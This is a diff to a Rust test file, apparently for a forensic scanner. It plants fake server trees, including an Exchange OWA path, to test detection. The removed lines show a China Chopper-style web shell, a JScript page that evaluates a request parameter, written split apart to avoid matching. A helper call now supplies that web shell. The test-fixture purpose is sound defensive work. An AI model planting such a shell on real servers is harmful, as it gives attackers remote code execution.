@@ -116,13 +116,8 @@ fn bare_root(bytes: &[u8]) -> tempfile::TempDir {
         );
         put(root, &format!("{host}/inetpub/logs/LogFiles/W3SVC1/u_ex210201.log"), &iis_log());
     }
-    let shell = concat!(
-        "<script language=\"JScript\" ",
-        "runat=\"server\">function Page_Load(){",
-        "ev",
-        "al(Request[\"k\"],\"unsafe\");}</script>"
-    );
-    put(root, &format!("exchange-hit/{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
+    let shell = ferret_testkit::samples::chopper_script("k");
+    put(root, &format!("exchange-hit/{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), &shell);
     // `scan`: one YARA rule, a tree without its marker and one with it (the marker is split
     // so this source does not hold it whole).
     let marker = format!("{}{}", "ferret-static-", "marker-77c1");
